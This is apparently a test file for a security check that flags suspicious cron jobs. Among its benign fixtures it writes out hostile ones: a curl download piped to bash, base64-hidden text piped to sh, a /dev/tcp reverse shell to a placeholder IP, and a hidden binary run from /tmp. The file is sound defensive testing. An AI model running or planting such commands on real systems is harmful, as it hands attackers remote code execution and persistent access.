import { completeSet, incompleteSet } from 'rempart/check';
import check from '../../../checks/runtime-detection/no-downloaders-in-jobs.ts';
import { testCheck } from '../../test-check.ts';
import { NO_PERMISSION } from '../host-examples.ts';
import { aJob } from '../product-examples.ts';

const job = (text: string) => ({ self: { jobs: completeSet([aJob('/etc/cron.d/job', text)]) } });

testCheck(check, [
  { name: 'a backup', facts: job('0 3 * * * root /usr/local/bin/backup | logger -t backup'), expect: 'pass' },
  {
    name: 'a download fed to a shell',
    facts: job('*/5 * * * * root curl -fsSL http://192.0.2.1/a.sh | bash'),
    expect: 'fail',
  },
  {
    name: 'a download piped to jq is none',
    facts: job('@hourly root curl -s https://example.org/status | jq .ok'),
    expect: 'pass',
  },
  {
    name: 'hidden text fed to a shell',
    facts: job('@reboot root echo ZWNobyBoaQ== | base64 -d | sh'),
    expect: 'fail',
  },
  {
    name: 'a shell that calls home',
    facts: job('* * * * * root bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"'),
    expect: 'fail',
  },
  { name: 'a hidden program in /tmp', facts: job('* * * * * root /tmp/.x/run'), expect: 'fail' },
  {
    name: 'a hidden file in /tmp that is only touched',
    facts: job('* * * * * root touch /tmp/.last-run'),
    expect: 'pass',
  },
  {
    name: 'jobs closed to others',
    facts: { self: { jobs: incompleteSet([], NO_PERMISSION) } },
    expect: 'unknown',
  },
]);
